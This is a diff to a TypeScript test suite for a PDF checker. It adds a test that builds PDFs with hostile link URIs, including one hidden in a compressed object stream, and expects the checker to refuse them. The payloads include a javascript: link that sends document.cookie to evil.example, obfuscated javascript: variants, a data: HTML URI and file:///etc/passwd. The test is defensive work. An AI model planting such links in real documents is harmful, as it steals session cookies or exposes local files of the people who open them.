@@ -329,6 +329,28 @@ describe('active PDF content is refused', () => {
     expect(await checkPdf(file)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
   });
 
+  it('refuses a link to javascript: (or data:, file:), also inside a compressed object stream', async () => {
+    const linked = (uri: string, objectStreams: boolean) =>
+      pdfWith(
+        (document, page) =>
+          linkWith(document, page, document.context.obj({ S: 'URI', URI: PDFString.of(uri) })),
+        { objectStreams },
+      );
+    const hidden = await linked('javascript:fetch("https://evil.example/?c="+document.cookie)', true);
+    expect(latin1(hidden)).toContain('/ObjStm');
+    expect(latin1(hidden)).not.toMatch(/javascript:/i);
+    expect(await checkPdf(hidden)).toMatchObject({ ok: false, message: expect.stringMatching(ACTIVE) });
+    for (const uri of [
+      ' \u0001JaVaScRiPt:alert(1)',
+      'java\nscript:alert(1)',
+      'data:text/html,<b>x</b>',
+      'file:///etc/passwd',
+    ])
+      expect(await checkPdf(await linked(uri, true)), uri).toMatchObject({ ok: false });
+    // A web link the reader clicks is not active content.
+    expect(await checkPdf(await linked('https://www.sodra.lt/', true))).toMatchObject({ ok: true });
+  });
+
   it('reads names as a viewer does: /#4aavaScript is /JavaScript', async () => {
     const file = await pdfWith((document, page) =>
       linkWith(document, page, document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })),
